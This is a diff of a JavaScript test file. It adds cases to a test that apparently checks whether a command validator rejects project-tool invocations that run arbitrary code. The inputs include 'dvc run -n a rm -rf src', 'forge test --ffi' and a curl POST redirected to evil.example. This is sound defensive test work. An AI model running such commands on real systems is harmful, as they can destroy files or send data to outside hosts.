@@ -159,6 +159,13 @@ test('a tool of the project is asked about with a word that names a command, cod
     ...['wrk -s evil.lua http://localhost:3000', 'lighthouse http://localhost:3000 --config-path=evil.js'],
     ...['hey -x evil.example:80 http://localhost:3000', 'docker run --rm -v /proj2:/app node:20 npm test'],
     'PWD=/; docker run --rm -v "$PWD":/app node:20 npm test',
+    ...[
+      'earthly --push +build',
+      'inv -c evil build',
+      'forge test --ffi',
+      'west forall -c id',
+      'dvc run -n a rm -rf src',
+    ],
     ...['curl -X POST localhost:3000 -d x --url=https://evil.example', 'curl -X POST localhost:3000 -d x --follow'],
     ...['curl -X POST localhost:4243/containers/create -d x', 'curl -X POST localhost:4040/api/tunnels -d x'],
     'eslint file://localhost/home/u/x',
